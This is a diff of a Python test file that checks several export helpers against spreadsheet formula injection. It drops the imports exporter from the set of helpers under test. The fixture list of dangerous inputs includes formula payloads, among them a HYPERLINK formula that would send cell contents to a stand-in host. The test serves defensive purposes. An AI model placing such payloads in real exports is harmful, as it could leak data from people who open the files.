@@ -1,5 +1,5 @@
 """One rule for formula injection in every export (issue 7, "Exports"): core.exports.safe_cell, which
-the imports, events, dashboards and API exports all call."""
+the list exports (core.exports), events, dashboards and API exports all call."""
 
 from __future__ import annotations
 
@@ -11,12 +11,11 @@ from core.api.renderers import neutralise as api_neutralise
 from core.exports import safe_cell
 from dashboards.export import _cell as dashboard_cell
 from events.exports import safe_cell as events_safe_cell
-from imports.exporters import neutralise as imports_neutralise
 
 DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&A1)', "＝1"]
 HARMLESS = ["晋中", "榆次区 = 1", "a-b", ""]
 NUMBERS = [-1, 0, 5, -1.5, Decimal("-3500.5"), Decimal("12")]
-HELPERS = [safe_cell, imports_neutralise, events_safe_cell, dashboard_cell, api_neutralise]
+HELPERS = [safe_cell, events_safe_cell, dashboard_cell, api_neutralise]
 
 
 @pytest.mark.parametrize("helper", HELPERS, ids=lambda h: f"{h.__module__}.{h.__name__}")
